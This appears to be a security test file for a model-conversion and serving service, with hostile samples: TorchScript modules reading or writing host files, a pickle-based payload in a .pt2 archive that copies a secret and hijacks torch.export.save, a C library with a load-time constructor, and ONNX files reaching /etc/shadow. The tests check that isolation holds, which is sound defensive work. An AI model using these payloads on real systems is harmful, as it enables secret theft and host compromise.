"""Code-bearing artifacts attack the service: TorchScript that reads or writes host files when it is
validated, benchmarked or served (with an infer-only token), ONNX with custom operators, and
torch.export programs (`.pt2`) whose pickled weights run code when they load. Each TorchScript
attack worked before TorchScript ran in isolated runners (service/runner.py)."""

from __future__ import annotations

import io
import json
import tempfile
import uuid
from pathlib import Path

import pytest

from service import boundary
from tests.service.test_auth import bearer, secure  # noqa: F401 - the fixture

pytestmark = pytest.mark.skipif(not boundary.available(), reason=f"no isolation here: {boundary._probe()}")
MAGIC = 7777

# Scripted, so the file read happens whenever the artifact runs: for one magic value the rest of the
# row gives a size and spells a path, and the answer is that file's bytes.
LEAK_SOURCE = f"""
import torch

class Leak(torch.nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        if int(x[0, 0]) == {MAGIC}:
            size = int(x[0, 1])
            path = ""
            for i in range(2, x.shape[1]):
                c = int(x[0, i])
                if c == 0:
                    break
                path += chr(c)
            data = torch.from_file(path, size=size, dtype=torch.uint8).to(torch.float32)
            return torch.nn.functional.pad(data, (0, x.shape[1] - size)).reshape(1, -1).expand(x.shape[0], -1)
        return x.to(torch.float32) * 2.0
"""

# A scripted module that build_model returns: running it writes a file.
WRITER_SOURCE = """
import torch

class Writer(torch.nn.Module):
    def __init__(self, path: str):
        super().__init__()
        self.path = path
        self.linear = torch.nn.Linear(8, 4)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        if torch.jit.is_scripting():
            # used in the output: TorchScript drops a mapped file's write that nothing reads afterwards
            mark = torch.from_file(self.path, shared=True, size=8, dtype=torch.uint8)
            mark.fill_(65)
            x = x + (mark.sum() - 520).to(x.dtype)
        return self.linear(x)

def build_model():
    return torch.jit.script(Writer(MARKER))
"""


def scripted(tmp_path: Path, source: str, cls: str) -> bytes:
    import importlib.util

    import torch

    path = tmp_path / f"{cls.lower()}_src.py"
    path.write_text(source)
    spec = importlib.util.spec_from_file_location(path.stem, path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(getattr(module, cls)()), buf)
    return buf.getvalue()


WIDTH = 256


def magic_row(path: Path) -> list[int]:
    size = min(path.stat().st_size, 64)
    row = [MAGIC, size] + list(str(path).encode()) + [0]
    assert len(row) <= WIDTH
    return row + [0] * (WIDTH - len(row))


@pytest.fixture
def host_secret():
    path = Path(tempfile.gettempdir()) / f"kiln-test-secret-{uuid.uuid4().hex}"
    path.write_text("s3cret-" + uuid.uuid4().hex[:20])
    yield path
    path.unlink(missing_ok=True)


@pytest.mark.parametrize("kiln_env", ["sqlite"], indirect=True)
def test_a_torchscript_upload_cannot_read_host_files_when_served(secure, tmp_path, host_secret):  # noqa: F811 - the imported fixture
    from workers.jobrunner import run_job

    api, admin, token_file = secure
    manage = api.post(
        "/v1/tokens", headers=bearer(admin), json={"name": "m", "owner": "team-a", "scopes": ["manage"]}
    ).json()
    infer = api.post("/v1/tokens", headers=bearer(manage["token"]), json={"name": "app", "scopes": ["infer"]}).json()
    signature = {
        "inputs": [{"name": "x", "dtype": "int64", "shape": ["batch", WIDTH], "value_range": [0, 100]}],
        "outputs": [{"name": "y"}],
    }
    r = api.post(
        "/v1/models",
        headers=bearer(manage["token"]),
        data={"name": "leak", "signature": json.dumps(signature)},
        files={"file": ("leak.pt", scripted(tmp_path, LEAK_SOURCE, "Leak"))},
    )
    assert r.status_code == 201, r.text
    job = api.post(
        "/v1/jobs",
        headers=bearer(manage["token"]),
        json={"model": "leak", "targets": ["torchscript"], "precisions": ["fp32"], "bench_seconds": 0.05, "threads": 1},
    ).json()
    assert run_job(job["id"]) == "succeeded", api.get(f"/v1/jobs/{job['id']}", headers=bearer(manage["token"])).text
    r = api.post("/v1/deployments", headers=bearer(manage["token"]), json={"name": "leak", "job": job["id"]})
    assert r.status_code == 201 and r.json()["state"] == "ready", r.text

    def infer_row(row: list[int]):
        body = {"inputs": [{"name": "x", "shape": [1, WIDTH], "datatype": "INT64", "data": row}]}
        return api.post("/v2/models/leak/infer", headers=bearer(infer["token"]), json=body)

    ok = infer_row([1] * WIDTH)
    assert ok.status_code == 200 and ok.json()["outputs"][0]["data"][:2] == [2.0, 2.0]
    for secret in (host_secret, token_file):  # a secret in the host's /tmp, and the admin token itself
        r = infer_row(magic_row(secret))
        leaked = bytes(int(v) for v in r.json()["outputs"][0]["data"][:8]) if r.status_code == 200 else b""
        assert secret.read_bytes()[:8] not in leaked, f"{secret} leaked through /v2"
        assert r.status_code >= 400, r.text
        assert secret.read_text()[:8] not in r.text
    # the deployment still serves afterwards
    assert infer_row([3] * WIDTH).status_code == 200


@pytest.mark.parametrize("kiln_env", ["sqlite"], indirect=True)
def test_torchscript_that_reads_a_host_file_at_validation_gets_nothing(api, tmp_path, host_secret):
    """Every run reads the secret: the eager reference (in the sandbox) fails to, and so the job
    fails, with no byte of the secret anywhere in what it reports."""
    from workers.jobrunner import run_job

    source = (
        LEAK_SOURCE.replace(f"if int(x[0, 0]) == {MAGIC}:", "if True:")
        .replace("size = int(x[0, 1])", f"size = {host_secret.stat().st_size}")
        .replace('path = ""', f"path = {str(host_secret)!r}")
        .replace("for i in range(2, x.shape[1]):", "for i in range(0):")
    )
    signature = {"inputs": [{"name": "x", "dtype": "int64", "shape": ["batch", WIDTH], "value_range": [0, 100]}]}
    r = api.post(
        "/v1/models",
        data={"name": "reader", "signature": json.dumps(signature)},
        files={"file": ("reader.pt", scripted(tmp_path, source, "Leak"))},
    )
    assert r.status_code == 201, r.text
    job = api.post(
        "/v1/jobs",
        json={
            "model": "reader",
            "targets": ["torchscript", "onnxruntime"],
            "precisions": ["fp32"],
            "bench_seconds": 0.05,
            "threads": 1,
        },
    ).json()
    assert run_job(job["id"]) == "failed"
    report = api.get(f"/v1/jobs/{job['id']}").text + api.get(f"/v1/jobs/{job['id']}/logs").text
    assert "No such file" in report, report[-2000:]  # the model's own error, its telling line
    assert host_secret.read_text() not in report


def test_a_scripted_module_from_build_model_writes_nothing_outside_the_box(tmp_path):
    from workers.engine import convert

    marker = Path(tempfile.gettempdir()) / f"kiln-test-marker-{uuid.uuid4().hex}"
    bundle = tmp_path / "writer.py"
    bundle.write_text(WRITER_SOURCE.replace("MARKER", repr(str(marker))))
    signature = {"inputs": [{"name": "x", "dtype": "float32", "shape": ["batch", 8]}], "outputs": [{"name": "y"}]}
    try:
        ctx = convert(
            bundle,
            tmp_path / "out",
            signature=signature,
            options={
                "targets": ["torchscript", "onnxruntime"],
                "precisions": ["fp32"],
                "bench_seconds": 0.05,
                "threads": 1,
            },
        )
        ran = [c for c in ctx.candidates if c.target == "torchscript" and c.validation is not None]
        assert ran, [(c.id, c.status, c.reason) for c in ctx.candidates]  # the module did run, in the box
        assert not marker.exists(), "a scripted module wrote a file on the host"
    finally:
        marker.unlink(missing_ok=True)


# Dormant while it is checked: the load, capture and validation processes call it a few dozen times
# each. Past DORMANT_CALLS calls in one process, which only the benchmark's warm-up and timed rounds
# reach, it attacks: it leaves a mark in its working directory (the job's own, the one place it may
# write), then writes a host file, or reads one and copies its bytes into that working directory and
# into the error it raises, so that a read that worked would leave the secret in what the job keeps.
# Every file it maps is used afterwards: TorchScript drops an op whose result nothing uses, a write
# through `torch.from_file(...).fill_(...)` included, and the attack would then prove nothing.
ATTACK_SOURCE = """
import torch

class Timed(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.register_buffer("calls", torch.zeros(1, dtype=torch.int64))

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        self.calls += 1
        if int(self.calls[0]) > DORMANT_CALLS:
            mark = torch.from_file("attack-ran", shared=True, size=1, dtype=torch.uint8)
            mark.fill_(1)
            if MODE == "write":
                host = torch.from_file(TARGET, shared=True, size=8, dtype=torch.uint8)
                host.fill_(65)
                raise RuntimeError("kiln-test: wrote the host file " + str(int(host.sum()) + int(mark[0])))
            data = torch.from_file(TARGET, size=SIZE, dtype=torch.uint8)
            leaked = torch.from_file("leaked", shared=True, size=SIZE, dtype=torch.uint8)
            leaked.copy_(data)
            text = ""
            for i in range(SIZE):
                text += chr(int(leaked[i]))
            raise RuntimeError("kiln-test: read " + text + str(int(mark[0])))
        return x * 2.0
"""
BENCH_SIGNATURE = {"inputs": [{"name": "x", "dtype": "float32", "shape": ["batch", 8]}], "outputs": [{"name": "y"}]}


def attacker(tmp_path: Path, mode: str, target: Path, dormant_calls: int) -> bytes:
    """The attacking module, scripted and saved: what a TorchScript upload or candidate holds."""
    source = (
        ATTACK_SOURCE.replace("DORMANT_CALLS", str(dormant_calls))
        .replace("MODE", repr(mode))
        .replace("TARGET", repr(str(target)))
        .replace("SIZE", str(target.stat().st_size))
    )
    return scripted(tmp_path, source, "Timed")


def attack_target(mode: str, tmp_path: Path, host_secret: Path) -> Path:
    """The secret in the host's /tmp to read, or a host file to write beside the job's own directory."""
    if mode == "read":
        return host_secret
    target = tmp_path / "host-file.bin"
    target.write_bytes(b"untouched host file")
    return target


def files_under(*roots: Path) -> dict[Path, bytes]:
    return {p: p.read_bytes() for root in roots for p in root.rglob("*") if p.is_file() and not p.is_symlink()}


@pytest.mark.parametrize("mode", ["read", "write"])
def test_torchscript_that_attacks_only_when_benchmarked_gets_nothing(tmp_path, host_secret, mode):
    """A TorchScript upload that passes validation and strikes in the sandboxed benchmark op (which loads
    the eager model and every candidate in-process): the attack runs there and gets nothing. The host
    file is unchanged and no byte of the secret is in any file the conversion leaves (report, summary,
    state, the box's working directory, its logs and results) or in what it returns."""
    from workers.engine import convert

    target = attack_target(mode, tmp_path, host_secret)
    before = target.read_bytes()
    bundle = tmp_path / "timed.pt"
    bundle.write_bytes(attacker(tmp_path, mode, target, dormant_calls=300))
    out = tmp_path / "out"
    ctx = convert(
        bundle,
        out,
        signature=BENCH_SIGNATURE,
        options={"targets": ["torchscript"], "precisions": ["fp32"], "bench_seconds": 0.05, "threads": 1},
    )
    # the report says how model code was contained (it used to lose that when it wrote the versions)
    assert json.loads((out / "report.json").read_text())["environment"]["isolation"] == "bubblewrap"
    cand = ctx.candidate("torchscript-fp32")
    assert cand.validation is not None and cand.validation.passed, cand  # dormant until benchmarked
    bench = ctx.step("benchmark")
    assert bench is not None and bench.status == "failed", ctx.steps
    assert "TorchScript interpreter" in (bench.error or ""), bench.error  # it struck while being timed
    left = files_under(out)
    assert any(p.name == "attack-ran" for p in left), sorted(map(str, left))  # in the benchmark op's workdir
    assert not any(p.name == "leaked" for p in left), "the read worked"
    assert target.read_bytes() == before, f"{target} changed on the host"
    if mode == "read":
        assert before not in ctx.model_dump_json().encode()
        for path, data in left.items():
            assert before not in data, f"{path} holds the host secret"


def benchmark_alone(candidate: str, artifact: Path, work: Path):
    """The sandboxed benchmark op timing one candidate (no eager baseline), checked to have run boxed."""
    from workers.sandbox import MIN_MEMORY_BYTES, Limits, run_op

    res = run_op(
        "benchmark",
        {
            "signature": BENCH_SIGNATURE,
            "threads": 1,
            "batch_sizes": [1, 4],
            "budget_s": 0.05,
            "eager": [],
            "artifacts": [{"id": candidate, "dir": str(artifact)}],
            "pairs": [],
        },
        work,
        limits=Limits(memory_bytes=MIN_MEMORY_BYTES * 2, timeout_s=120, readable=(artifact,)),
    )
    assert res.isolated and not any("UNISOLATED" in n for n in res.notes), res.notes
    return res


@pytest.mark.parametrize("mode", ["read", "write"])
def test_the_benchmark_op_runs_a_torchscript_candidate_only_inside_the_box(tmp_path, host_secret, mode):
    """The sandboxed benchmark op alone, timing one TorchScript candidate (no eager baseline) whose
    forward attacks on every call: it is left out with the box's refusal as its reason, the host file is
    unchanged, and the secret is in nothing the op returns or leaves."""
    from service.runtimes.base import ArtifactInfo
    from workers.sandbox import control_dir

    target = attack_target(mode, tmp_path, host_secret)
    before = target.read_bytes()
    artifact = tmp_path / "artifacts" / "torchscript-fp32"
    artifact.mkdir(parents=True)
    (artifact / "model.pt").write_bytes(attacker(tmp_path, mode, target, dormant_calls=0))
    ArtifactInfo(runtime="torchscript", file="model.pt", signature=BENCH_SIGNATURE).save(artifact)
    work = tmp_path / "work"
    res = benchmark_alone("torchscript-fp32", artifact, work)
    assert res.outcome == "ok", (res.reason, res.log[-2000:])
    assert res.result["points"] == {}, res.result
    reason = res.result["errors"]["torchscript-fp32"]
    refused = "No such file" if mode == "read" else "kiln-test: wrote the host file"  # a write lands in the box's /tmp
    assert refused in reason, reason
    left = files_under(work, control_dir(work))
    assert (work / "attack-ran").is_file() and not (work / "leaked").exists(), sorted(map(str, left))
    assert target.read_bytes() == before, f"{target} changed on the host"
    if mode == "read":
        assert before not in json.dumps(res.result).encode() and before.decode() not in res.log
        for path, data in left.items():
            assert before not in data, f"{path} holds the host secret"


def _onnx_with_custom_op() -> bytes:
    from onnx import TensorProto, helper

    node = helper.make_node("Exfiltrate", ["x"], ["y"], domain="com.evil.ops")
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])],
    )
    model = helper.make_model(
        graph, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("com.evil.ops", 1)]
    )
    return model.SerializeToString()


@pytest.mark.parametrize("kiln_env", ["sqlite"], indirect=True)
def test_onnx_with_a_custom_operator_domain_is_refused_at_upload_and_stored_nowhere(api, kiln_env):
    from service.config import get_settings

    store = get_settings().artifact_dir
    before = sorted(p for p in store.rglob("*") if p.is_file()) if store.exists() else []
    r = api.post("/v1/models", data={"name": "evil"}, files={"file": ("evil.onnx", _onnx_with_custom_op())})
    assert r.status_code == 400, r.text
    assert "com.evil.ops" in r.json()["detail"] and "custom" in r.json()["detail"]
    assert api.get("/v1/models/evil").status_code == 404
    after = sorted(p for p in store.rglob("*") if p.is_file()) if store.exists() else []
    assert after == before


def test_an_onnx_artifact_with_a_custom_domain_is_refused_before_loading(tmp_path):
    from service import runtimes
    from service.errors import InvalidBundle
    from service.runtimes.base import ArtifactInfo

    (tmp_path / "model.onnx").write_bytes(_onnx_with_custom_op())
    ArtifactInfo(runtime="onnxruntime", file="model.onnx").save(tmp_path)
    with pytest.raises(InvalidBundle, match="custom"):
        runtimes.load(tmp_path)


def test_a_file_an_op_reports_must_be_a_plain_file_in_its_sandbox(tmp_path):
    from service.errors import ConversionError
    from workers.context import BundleInfo, Context
    from workers.sandboxed import produced, sandbox_dir

    ctx = Context(
        workdir=str(tmp_path / "work"),
        out_dir=str(tmp_path / "out"),
        bundle=BundleInfo(kind="python", root=str(tmp_path)),
        signature={"inputs": [{"name": "x", "dtype": "float32", "shape": [1]}]},
    )
    box = sandbox_dir(ctx)
    (box / "ok.onnx").write_bytes(b"x")
    (box / "sub").mkdir()
    (box / "link.onnx").symlink_to("/etc/passwd")
    (box / "dirlink").symlink_to("/etc")
    assert produced(ctx, str(box / "ok.onnx")) == box / "ok.onnx"
    for bad in (
        "/etc/passwd",
        str(box / "link.onnx"),
        str(box / "dirlink" / "passwd"),
        str(box / "sub"),
        str(box / ".." / "work" / "sandbox" / "ok.onnx") + "/..",
        "relative.onnx",
    ):
        with pytest.raises(ConversionError):
            produced(ctx, bad)


def test_a_runner_that_speaks_nonsense_is_cut_off(tmp_path):
    import socket

    import orjson

    from service.runner import _HEADER, Channel, ChannelError

    for header in (
        {"tensors": [["y", "<f4", [1 << 50]]]},
        {"tensors": [["y", "<f4", [-1]]]},
        {"tensors": [["y", "|O", [1]]]},
        [1, 2],
        {"tensors": [["y", "<f4"]]},
    ):
        a, b = socket.socketpair()
        body = orjson.dumps(header)
        a.sendall(_HEADER.pack(len(body)) + body)
        with pytest.raises(ChannelError):
            Channel(b, max_bytes=1 << 30).recv()
        a.close()
        b.close()


def test_onnx_sparse_attribute_tensors_with_external_data_are_refused(tmp_path):
    from onnx import TensorProto, helper

    from service.errors import InvalidBundle
    from service.onnx_policy import check_onnx

    values = helper.make_tensor("v", TensorProto.FLOAT, [1], [0.0])
    values.data_location = TensorProto.EXTERNAL
    values.ClearField("float_data")
    values.external_data.add(key="location", value="/etc/shadow")
    sparse = helper.make_sparse_tensor(values, helper.make_tensor("i", TensorProto.INT64, [1], [0]), [4])
    node = helper.make_node("Constant", [], ["y"], sparse_value=sparse)
    graph = helper.make_graph([node], "g", [], [helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])])
    path = tmp_path / "m.onnx"
    path.write_bytes(helper.make_model(graph).SerializeToString())
    with pytest.raises(InvalidBundle, match="another file"):
        check_onnx(path)


def test_code_bearing_artifacts_load_in_process_only_inside_the_box(tmp_path, monkeypatch):
    """The in-process load that the sandboxed benchmark uses is refused anywhere else (the worker,
    the API), before the file is opened: a TorchScript artifact there goes through the runner."""
    from service import runtimes
    from service.errors import RuntimeUnavailable
    from service.runtimes.base import ArtifactInfo

    (tmp_path / "model.pt").write_bytes(b"not even read")
    ArtifactInfo(runtime="torchscript", file="model.pt").save(tmp_path)
    monkeypatch.delenv(runtimes.INSIDE_BOX, raising=False)
    with pytest.raises(RuntimeUnavailable, match="only inside the isolation boundary"):
        runtimes.load(tmp_path, isolated=False)


# A shared library whose constructor runs as soon as it is loaded: it copies a host secret to a host
# file (both paths compiled in). Dropped into an AOTInductor package as the model's library.
CONSTRUCTOR_C = r"""
#include <stdio.h>
__attribute__((constructor)) static void strike(void) {
    char buf[256] = {0};
    FILE *in = fopen(SECRET, "r");
    FILE *out = fopen(MARKER, "w");
    if (out) {
        if (in) { size_t n = fread(buf, 1, sizeof buf - 1, in); fwrite(buf, 1, n, out); }
        fputs("ran", out);
        fclose(out);
    }
    if (in) fclose(in);
}
"""


def test_an_aotinductor_package_runs_its_library_only_inside_the_runners_box(tmp_path, host_secret):
    """An aotinductor artifact is a zip with a compiled library that is loaded (and so runs) when the
    package is. Served, it is loaded by the isolated runner: a library whose constructor copies a host
    secret to a host file leaves nothing on the host. Loaded directly on the host, the same library
    does write the file, so the attack is real."""
    import shutil
    import subprocess
    import sys
    import zipfile

    if shutil.which("gcc") is None:
        pytest.skip("no gcc to build the attacking library")
    marker = Path(tempfile.gettempdir()) / f"kiln-aoti-{uuid.uuid4().hex}"
    lib = tmp_path / "attack.so"
    src = tmp_path / "attack.c"
    src.write_text(CONSTRUCTOR_C)
    subprocess.run(
        ["gcc", "-shared", "-fPIC", f'-DSECRET="{host_secret}"', f'-DMARKER="{marker}"', "-o", str(lib), str(src)],
        check=True,
    )
    art = tmp_path / "artifact"
    art.mkdir()
    stem = "pkg/data/aotinductor/model/cattack"
    meta = {
        "AOTI_DEVICE_KEY": "cpu",
        "AOTI_PLATFORM": "linux",
        "AOTI_MACHINE": __import__("platform").machine(),
        "AOTI_CPU_ISA": "",
        "AOTI_COMPUTE_CAPABILITY": "",
    }
    with zipfile.ZipFile(art / "model.pt2", "w") as zf:
        for name, data in {
            "pkg/archive_format": b"pt2",
            "pkg/archive_version": b"0",
            "pkg/.data/version": b"6\n",
            "pkg/byteorder": b"little",
            f"{stem}.wrapper_metadata.json": json.dumps(meta).encode(),
        }.items():
            zf.writestr(name, data)
        zf.write(lib, f"{stem}.wrapper.so")
    (art / "kiln-artifact.json").write_text(
        json.dumps(
            {
                "runtime": "aotinductor",
                "file": "model.pt2",
                "precision": "fp32",
                "signature": {
                    "inputs": [{"name": "x", "dtype": "float32", "shape": ["batch", 4]}],
                    "outputs": [{"name": "y"}],
                },
                "device": "cpu",
                "extra": {},
            }
        )
    )
    from service import runtimes

    try:
        rt = runtimes.load(art)  # the serving path: an isolated runner
        try:
            rt.run({"x": __import__("numpy").zeros((1, 4), dtype="float32")})
        finally:
            rt.close()
    except Exception:  # noqa: BLE001 - the package is not a working model; what matters is the host
        pass
    assert not marker.exists(), marker.read_text()
    # the control: loaded on the host, the library does run and write
    subprocess.run([sys.executable, "-c", f"import ctypes; ctypes.CDLL({str(lib)!r})"], check=True)
    try:
        assert marker.read_text().endswith("ran")
    finally:
        marker.unlink(missing_ok=True)


# Python run by unpickling: torch.export.load reads a weight whose entry in the archive's weights
# config says `use_pickle` with torch.load(weights_only=False), so a `.pt2` can hold any code as a
# "weight". This one marks its working directory (where it may write), copies a host secret to a host
# file, and returns the real weight, so the program works and the attack is otherwise silent. It also
# makes every torch.export.save in its process write the attacking file itself: the candidate that
# the sandboxed `build_pt2` op saves from the export capture carries the attack on into validation,
# benchmarking and serving, as a program saved from an earlier attack could.
PT2_STRIKE = """
import shutil
import sys

import torch

try:
    with open("attack-ran", "a") as f:
        f.write("1")
except OSError:
    pass
try:
    with open(SECRET) as f:
        leaked = f.read()
except OSError as exc:
    leaked = repr(exc)
with open(MARKER, "w") as f:
    f.write(leaked + "ran")
frame = sys._getframe()
while frame is not None and not (frame.f_code.co_name == "load" and isinstance(frame.f_locals.get("f"), str)):
    frame = frame.f_back
if frame is not None and not hasattr(torch.export.save, "kiln_test"):
    source, save = frame.f_locals["f"], torch.export.save

    def infect(ep, f, *args, **kwargs):
        save(ep, f, *args, **kwargs)
        if isinstance(f, str):
            shutil.copyfile(source, f)

    infect.kiln_test = True
    torch.export.save = infect
weight = torch.nn.Parameter(torch.full((8,), 2.0))
"""


class _Unpickled:
    """Unpickles as the value of `(lambda g: (exec(code, g), g["weight"])[1])({})`."""

    def __init__(self, code: str):
        self.code = code

    def __reduce__(self):
        return (eval, (f"(lambda g: (exec({self.code!r}, g), g['weight'])[1])({{}})",))


def attacking_pt2(secret: Path, marker: Path) -> bytes:
    """An ExportedProgram of `x * scale` (scale: eight 2.0s) whose `scale` is the pickled PT2_STRIKE."""
    import zipfile

    import torch

    class Scale(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.scale = torch.nn.Parameter(torch.full((8,), 2.0))

        def forward(self, x):
            return x * self.scale

    batch = torch.export.Dim("batch", min=1, max=1024)
    program = torch.export.export(Scale(), (torch.ones(2, 8),), dynamic_shapes=({0: batch},))
    clean = io.BytesIO()
    torch.export.save(program, clean)
    payload = io.BytesIO()
    code = PT2_STRIKE.replace("SECRET", repr(str(secret))).replace("MARKER", repr(str(marker)))
    torch.save(_Unpickled(code), payload)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(clean.getvalue())) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith("/weights/model_weights_config.json"):
                config = json.loads(data)
                config["config"]["scale"].update(use_pickle=True, path_name="strike")
                data = json.dumps(config).encode()
                dst.writestr(info.filename.rsplit("/", 1)[0] + "/strike", payload.getvalue())
            dst.writestr(info, data)
    return out.getvalue()


def carries_the_strike(pt2: Path) -> bool:
    import zipfile

    with zipfile.ZipFile(pt2) as zf:
        return any(n.endswith("/weights/strike") for n in zf.namelist())


def pt2_artifact(directory: Path, data: bytes) -> Path:
    from service.runtimes.base import ArtifactInfo

    directory.mkdir(parents=True)
    (directory / "model.pt2").write_bytes(data)
    ArtifactInfo(runtime="torch_export", file="model.pt2", signature=BENCH_SIGNATURE, device="cpu").save(directory)
    return directory


def assert_the_pt2_strike_is_real(pt2: Path, secret: Path, marker: Path) -> None:
    """The control: torch.export.load of the same file on the host runs it, and it copies the secret."""
    import subprocess
    import sys

    assert not marker.exists()
    subprocess.run([sys.executable, "-c", f"import torch; torch.export.load({str(pt2)!r})"], cwd=pt2.parent, check=True)
    try:
        assert marker.read_text() == secret.read_text() + "ran"
    finally:
        marker.unlink(missing_ok=True)


@pytest.fixture
def host_marker():
    path = Path(tempfile.gettempdir()) / f"kiln-pt2-marker-{uuid.uuid4().hex}"
    yield path
    path.unlink(missing_ok=True)


# A Python bundle whose capture saves the attacking program instead of its own (its code runs only in
# the box, where torch.export.save is called): the `.pt2` candidates are built from that capture. An
# uploaded `.pt2` is unpickled the same way, by the sandboxed load op.
PLANTING_SOURCE = """
import base64

import torch

STRIKE = base64.b64decode(PT2)


class Scale(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.scale = torch.nn.Parameter(torch.full((8,), 2.0))

    def forward(self, x):
        return x * self.scale


def build_model():
    save = torch.export.save

    def plant(ep, f, *args, **kwargs):
        save(ep, f, *args, **kwargs)
        with open(f, "wb") as out:
            out.write(STRIKE)

    torch.export.save = plant
    return Scale()
"""


def test_an_exported_program_that_attacks_when_unpickled_gets_nothing(tmp_path, host_secret, host_marker):
    """A torch_export candidate whose pickled weight runs code each time the program is loaded: built
    in the sandbox from an export capture that the model's code replaced with it, it is loaded by the
    sandboxed build op, by validation's runner and by the sandboxed benchmark op, and then served by a
    runner. The loads run the attack (the model's weight exists only as what it returns, and the
    outputs are right), and none reads the secret or writes the host file."""
    import base64

    from service import runtimes
    from workers.engine import convert

    bundle = tmp_path / "planting.py"
    strike = base64.b64encode(attacking_pt2(host_secret, host_marker)).decode()
    bundle.write_text(PLANTING_SOURCE.replace("PT2", repr(strike)))
    out = tmp_path / "out"
    ctx = convert(
        bundle,
        out,
        signature=BENCH_SIGNATURE,
        options={"targets": ["torch_export"], "precisions": ["fp32"], "bench_seconds": 0.05, "threads": 1},
    )
    cand = ctx.candidate("torch_export-fp32")
    assert cand.status == "built" and cand.artifact_dir, (cand, ctx.steps)
    artifact = out / cand.artifact_dir
    assert carries_the_strike(artifact / "model.pt2")  # what was validated, timed and is served
    assert cand.validation is not None and cand.validation.passed, cand
    bench = ctx.step("benchmark")
    assert bench is not None and bench.status == "ok", ctx.steps
    assert cand.benchmark, cand  # timed by the benchmark op
    left = files_under(out)
    assert any(p.name == "attack-ran" for p in left), sorted(map(str, left))  # it ran, in the ops' workdirs
    assert not host_marker.exists(), host_marker.read_text()
    secret = host_secret.read_bytes()
    assert secret not in ctx.model_dump_json().encode()
    for path, data in left.items():
        assert secret not in data, f"{path} holds the host secret"

    import numpy as np

    rt = runtimes.load(artifact)  # serving: an isolated runner
    try:
        y = rt.run({"x": np.ones((3, 8), dtype="float32")})
    finally:
        rt.close()
    assert np.array_equal(next(iter(y.values())), np.full((3, 8), 2.0, dtype="float32")), y
    assert not host_marker.exists(), host_marker.read_text()
    assert_the_pt2_strike_is_real(artifact / "model.pt2", host_secret, host_marker)


def test_the_benchmark_op_loads_an_exported_program_only_inside_the_box(tmp_path, host_secret, host_marker):
    """The sandboxed benchmark op alone, timing a torch_export candidate whose pickled weight attacks
    as it is unpickled: it is timed (its weight is what the attack returned), the attack ran in the
    op's working directory, and the host file is not written nor the secret in anything it leaves."""
    from workers.sandbox import control_dir

    artifact = pt2_artifact(tmp_path / "artifacts" / "torch_export-fp32", attacking_pt2(host_secret, host_marker))
    work = tmp_path / "work"
    res = benchmark_alone("torch_export-fp32", artifact, work)
    assert res.outcome == "ok", (res.reason, res.log[-2000:])
    assert res.result["points"].get("torch_export-fp32"), res.result  # it loaded and ran
    assert (work / "attack-ran").is_file()
    assert not host_marker.exists(), host_marker.read_text()
    secret = host_secret.read_bytes()
    assert secret not in json.dumps(res.result).encode() and secret.decode() not in res.log
    for path, data in files_under(work, control_dir(work)).items():
        assert secret not in data, f"{path} holds the host secret"
    assert_the_pt2_strike_is_real(artifact / "model.pt2", host_secret, host_marker)


def test_an_exported_program_loads_in_process_only_inside_the_box(tmp_path, monkeypatch, host_secret, host_marker):
    """Outside the box (the worker, the API) the in-process load of a torch_export artifact is refused
    before the file is opened, so the pickled attack never runs there."""
    from service import runtimes
    from service.errors import RuntimeUnavailable

    artifact = pt2_artifact(tmp_path / "artifact", attacking_pt2(host_secret, host_marker))
    monkeypatch.delenv(runtimes.INSIDE_BOX, raising=False)
    with pytest.raises(RuntimeUnavailable, match="only inside the isolation boundary"):
        runtimes.load(artifact, isolated=False)
    assert not host_marker.exists(), host_marker.read_text()
    assert_the_pt2_strike_is_real(artifact / "model.pt2", host_secret, host_marker)
